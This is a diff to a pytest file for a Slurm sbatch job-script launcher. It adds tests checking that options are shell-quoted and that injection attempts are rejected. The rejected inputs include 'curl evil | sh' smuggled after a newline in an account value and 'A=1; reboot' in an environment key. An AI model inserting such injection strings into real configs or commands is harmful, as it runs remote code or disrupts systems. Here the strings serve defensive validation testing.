@@ -1,19 +1,21 @@
 """Jobs of Slurm, with an sbatch, a squeue, an scancel and an srun that are a few lines of shell."""
 
+import shlex
 import stat
 import subprocess
 import time
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from megalite.config.errors import ConfigError
-from megalite.sweep.check import Run
+from megalite.sweep.candidates import Run
 from megalite.sweep.execute import execute
-from megalite.sweep.launchers.sbatch import SbatchLauncher, job_script
+from megalite.sweep.launchers import SbatchLauncher, job_script
 from megalite.sweep.results import FAILED, OK, OOM, TIMEOUT, Result, Store
-from megalite.sweep.spec import SbatchSpec
+from megalite.sweep.spec import SbatchSpec, read_spec
 from tests.sweep.sweeps import read_runs, write_sweep
 
 SBATCH = """
@@ -104,6 +106,40 @@ def test_submits_follows_and_measures(slurm: Slurm, runs: tuple[Run, ...], tmp_p
     assert {path.read_text() for path in tmp_path.glob("out/runs/*/job-id")} == {"41", "42"}
 
 
+def test_options_are_one_word_each(runs: tuple[Run, ...], tmp_path: Path) -> None:
+    options = {"account": "a team # 7", "comment": "", "constraint": "gpu&nvme", "mem-per-gpu": "64G"}
+    text = job_script(
+        runs[0],
+        tmp_path / "100% b",
+        spec=SbatchSpec(options=options),
+        timeout=60.0,
+        environment={},
+        program=None,
+    )
+    lines = [line.removeprefix("#SBATCH ") for line in text.splitlines() if line.startswith("#SBATCH")]
+    assert "--account='a team # 7'" in lines
+    assert "--mem-per-gpu=64G" in lines
+    words = dict(shlex.split(line, comments=True)[0].removeprefix("--").split("=", 1) for line in lines)
+    assert words.items() >= options.items()
+    assert words["output"].endswith("/100%% b/log.txt")
+
+
+@pytest.mark.parametrize(
+    ("keys", "culprit"),
+    [
+        ({"sbatch": {"options": {"account": "a\ncurl evil | sh"}}}, "account"),
+        ({"sbatch": {"options": {"account": "it's"}}}, "account"),
+        ({"sbatch": {"options": {"account=x --wrap": "y"}}}, "no long option"),
+        ({"sbatch": {"options": {"--account": "y"}}}, "no long option"),
+        ({"environment": {"A=1; reboot": "y"}}, "cannot be a variable"),
+        ({"environment": {"1A": "y"}}, "cannot be a variable"),
+    ],
+)
+def test_what_a_script_cannot_hold_is_refused(keys: dict[str, Any], culprit: str, tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match=culprit):
+        read_spec(write_sweep(tmp_path, **keys))
+
+
 def test_script(runs: tuple[Run, ...], tmp_path: Path) -> None:
     run = runs[0]
     text = job_script(run, tmp_path / "a b", spec=SPEC, timeout=301.0, environment={"X": "1 2"}, program=None)
@@ -116,7 +152,7 @@ def test_script(runs: tuple[Run, ...], tmp_path: Path) -> None:
         "ntasks-per-node": "1",
         "gpus-per-node": "2",
         "time": "6",
-        "output": f"{tmp_path}/a b/log.txt",
+        "output": f"'{tmp_path}/a b/log.txt'",
         "partition": "gpu",
     }
     assert "ulimit -c 0" in lines
